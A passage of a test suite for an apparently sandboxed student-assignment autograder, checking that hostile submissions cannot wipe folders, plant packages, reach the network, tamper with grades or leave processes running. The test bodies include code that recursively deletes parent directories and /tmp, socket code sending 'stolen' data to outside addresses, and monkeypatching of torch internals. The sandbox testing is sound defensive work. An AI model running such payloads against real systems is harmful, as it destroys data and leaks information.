    layers = hostile_layers(body)
    report = run_case(tmp_path, mode, layers)
    assert "WROTE" not in first(report)["details"]["stdout"]
    assert not (out / "owned.txt").exists() and not (tmp_path / "another_student").exists()
    assert (sub / "cs231n" / "rnn_layers.py").read_text() == layers
    assert "hostile,1000" not in (out / "grades.csv").read_text()


def test_scratch_folder_parent_and_temp_cannot_be_wiped(tmp_path, mode):
    """It deletes what it can above its scratch folder and in /tmp, then dies: the next checks start fresh
    workers that import the staged package again, and another submission graded alongside is untouched."""
    isolated_only(mode, "a worker running as root may delete the staged package and other runs' folders")
    body = textwrap.dedent('''\
        import os, shutil, glob
        here = os.getcwd()
        for victim in [os.path.dirname(here)] + glob.glob("/tmp/*") + glob.glob(os.path.dirname(here) + "/*"):
            shutil.rmtree(victim, ignore_errors=True)
            for root, dirs, files in os.walk(victim):
                for name in files:
                    try:
                        os.remove(os.path.join(root, name))
                    except OSError:
                        pass
        os.chdir("/")
        os._exit(0)
        ''')
    other = tmp_path / "classmate"
    write_submission(other)
    report = run_case(tmp_path, mode, hostile_layers(body), extra=("--jobs", "2"), others=(other,))
    classmate = json.loads((tmp_path / "out" / "classmate" / "report.json").read_text())
    assert {c["status"] for c in classmate["checks"]} == {"passed"}
    assert first(report)["status"] == "error"


PLANT = textwrap.dedent('''\
    import os, threading, time
    if os.getcwd() != "/":  # the first call in a worker: plant a whole package where the worker started
        os.makedirs("cs231n", exist_ok=True)
        for name in ("__init__.py", "rnn_layers.py"):
            with open(os.path.join("cs231n", name), "w") as f:
                f.write("def word_embedding_forward(x, W):\\n    return 0, 0\\n" if name != "__init__.py" else "")
        print("PLANTED", os.path.abspath("cs231n"))
        os.chdir("/")
    else:  # the next call, same worker: it still answers; now leave a thread so that it is replaced
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    ''') + ZEROS


def test_changing_directory_changes_nothing(tmp_path, mode):
    """A package planted in the worker's folder (a ``cs231n/`` with ``__init__.py`` and a fake
    ``word_embedding_forward``) and a ``chdir`` change nothing: the worker goes on answering, and the fresh
    worker that replaces it, started in that same folder, imports the staged package, not the planted one
    (``python -I``: its folder is not on ``sys.path``; the staged root comes first). The second hostile check
    leaves a thread so that the control checks run in that fresh worker, which imports ``rnn_layers`` anew
    after the plant (a worker imports every module once, before its first check: in the planting worker the
    control could not fail)."""
    report = run_case(tmp_path, mode, hostile_layers(PLANT))
    planting, second = first(report, HOSTILE[0]), first(report, HOSTILE[1])
    assert "PLANTED" in planting["details"]["stdout"]
    assert planting["status"] == "failed" and "rel_error" in planting["message"], planting
    assert second["status"] == "failed" and "rel_error" in second["message"], second  # answered after the chdir
    assert "left threads or processes running" in second["details"]["leftovers"]


def test_network_is_unreachable(tmp_path, mode):
    isolated_only(mode, "without a network namespace the worker reaches every address the grader reaches")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    connections = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                connections.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    body = textwrap.dedent('''\
        import socket
        for host in ("127.0.0.1", "localhost", "::1", "10.0.2.2", "8.8.8.8"):
            try:
                s = socket.create_connection((host, {port}), timeout=0.5)
                s.sendall(b"stolen " + repr(x).encode())
                print("CONNECTED", host)
            except OSError as e:
                print("BLOCKED", host, type(e).__name__)
        ''').format(port=port) + ZEROS
    try:
        report = run_case(tmp_path, mode, hostile_layers(body))
    finally:
        stop.set()
        thread.join(2)
        server.close()
    assert connections == []
    printed = first(report)["details"]["stdout"]
    assert "CONNECTED" not in printed and "BLOCKED 127.0.0.1" in printed


# ============================================================================================ the PyTorch track
# The same protections in PyTorch workers: torch's own functions patched, a tensor too large to send, processes
# started through torch's DataLoader. The hostile code sits in gan_pytorch.sample_noise; ls_generator_loss is the
# control, graded after it in the same run.

REFERENCE_GAN = (ROOT / "reference" / "cs231n" / "gan_pytorch.py").read_text()
PT_HOSTILE = ("gan_pytorch.sample_noise/notebook", "gan_pytorch.sample_noise/uniform")
PT_CONTROL = ("gan_pytorch.ls_generator_loss/notebook", "gan_pytorch.ls_generator_loss/hidden")
PT_NOISE = "return 2 * torch.rand(batch_size, dim) - 1\n"
PT_CASES = {
    "torch_numpy_patched": (  # every tensor the worker sends would be 0.5: the worker is replaced after the check
        "torch.Tensor.numpy = lambda self, *a, **k: np.full(tuple(self.shape), 0.5, dtype=np.float32)\n" + PT_NOISE,
        "replaced what its worker relies on (torch.Tensor.numpy)"),
    "expanded_10gb": ("return torch.zeros(1).expand(50000, 25000)\n", ""),
    "dataloader_workers": (  # the sandbox refuses their shared memory; none may outlive the check anyway
        "import torch.utils.data as data\n"
        "globals()['kept'] = iter(data.DataLoader(data.TensorDataset(torch.zeros(64, 1)), batch_size=1,\n"
        "                                         num_workers=2, persistent_workers=True))\n"
        "next(globals()['kept'])\nraise RuntimeError('no noise today')\n", ""),
    "daemon_thread_pool": (
        "import threading, time\nthreading.Thread(target=time.sleep, args=(600,), daemon=True).start()\n"
        "return torch.rand(batch_size, dim)\n", "left threads or processes running"),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", PT_CASES)
def test_hostile_pytorch_code_earns_nothing_and_leaves_nothing(tmp_path, bwrap_only, case):
    body, taint = PT_CASES[case]
    name = "hostile_pt"
    sub = write_submission(tmp_path / name, files={"gan_pytorch.py": replace_function(REFERENCE_GAN, "sample_noise",
                                                                                      body)})
    out = tmp_path / "out"
    selected = PT_HOSTILE + PT_CONTROL
    report = grade([sub], out, "--seed", "5", "--timeout", "20", "--only", ",".join(selected))[name]
    by_id = check_complete(out, name, report, selected, bwrap_only)
    for check in PT_HOSTILE:
        assert by_id[check]["status"] != "passed" and by_id[check]["score"] == 0, by_id[check]
    for check in PT_CONTROL:
        assert by_id[check]["status"] == "passed", by_id[check]
    assert [e["track"] for e in report["exercises"]] == ["pytorch"]
    if taint:
        assert any(taint in c["details"].get("leftovers", "") for c in report["checks"]), [
            c["details"].get("leftovers") for c in report["checks"]]
    assert not wait_until_gone("/grader-%s-" % name), "processes of this submission outlived its grading"


# ============================================================================================ precision (#18)

STEP_CHECKS = HOSTILE + ("rnn_layers.rnn_step_forward/large-inputs",)
SEQUENCE = ("rnn_layers.rnn_forward/notebook", "rnn_layers.rnn_forward/hidden")
CORRECT_STEP = "next_h = np.tanh(x.dot(Wx) + prev_h.dot(Wh) + b)\nreturn next_h, (x, prev_h, Wx, Wh, b, next_h)\n"
NOISY_STEPS = {
    "flood": "import sys\nfor _ in range(40):\n    sys.stdout.write('flood ' * 10_000 + '\\n')\n",
    "network": "import socket\ntry:\n    socket.create_connection(('127.0.0.1', 9), timeout=0.3).close()\n"
               "except OSError:\n    pass\n",
    "daemon": daemon_body("%s").replace(ZEROS, ""),
}


@pytest.mark.parametrize("case", NOISY_STEPS)
def test_a_noisy_correct_step_keeps_passed_when_the_sequence_is_missing(tmp_path, mode, case):
    """A correct ``rnn_step_forward`` that floods its output, tries the network or forks daemons, with
    ``rnn_forward`` not written: the missing function is blamed alone, the step passes."""
    tag = "4343.%d" % (uuid.uuid4().int % 10**6)
    noise = NOISY_STEPS[case].replace("%s", tag) if case == "daemon" else NOISY_STEPS[case]
    layers = hostile_layers(noise + CORRECT_STEP).replace("def rnn_forward(", "def rnn_forward_unfinished(")
    report = run_case(tmp_path, mode, layers, hostile=SEQUENCE, control=STEP_CHECKS + CONTROL, timeout="10")
    for pid, _ in wait_until_gone("sleep " + tag):
        os.kill(pid, signal.SIGKILL)
    functions = {name: v["status"] for name, v in report["functions"].items()}
    assert functions["rnn_layers.rnn_step_forward"] == "passed", report["functions"]
    assert functions["rnn_layers.rnn_forward"] == "error", report["functions"]
    for check in SEQUENCE:
        result = first(report, check)
        assert result["status"] == "error" and "AttributeError" in result["message"], result
        assert result["blame"] == ["rnn_layers.rnn_forward"] and result["inconclusive"] == [], result
        assert "your `rnn_forward` is not defined in rnn_layers.py" in result["message"].lower(), result
    if case == "flood":
        assert first(report)["details"]["stdout"].endswith("[... cut ...]")
